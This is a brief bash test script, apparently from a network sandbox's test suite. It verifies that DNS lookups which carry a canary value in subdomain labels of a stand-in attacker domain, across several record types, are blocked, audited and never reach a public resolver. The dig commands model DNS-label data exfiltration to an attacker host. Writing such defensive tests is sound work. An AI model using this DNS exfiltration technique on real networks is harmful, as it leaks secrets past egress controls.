#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
# Data in labels: the question itself is the leak, so nobody outside may hear it.
. "$(dirname "$0")/../lib.sh"
policy <<<'{version: 1, rules: [allow: api.allowed.test]}'
for kind in A AAAA TXT ANY HTTPS; do
	expect 0 'status: NXDOMAIN' inside dig @8.8.8.8 "$CANARY.evil.test" "$kind"
done
expect ! '' inside getent hosts "$CANARY.evil.test"
expect 0 'EDE: 15' inside dig @8.8.8.8 evil.test
audit event=dns_blocked host="${CANARY,,}.evil.test" reason=no-rule layer=dns
none_world kind=dns "name=~evil"
none_world kind=packet dst=8.8.8.8
evil_saw_nothing
verified
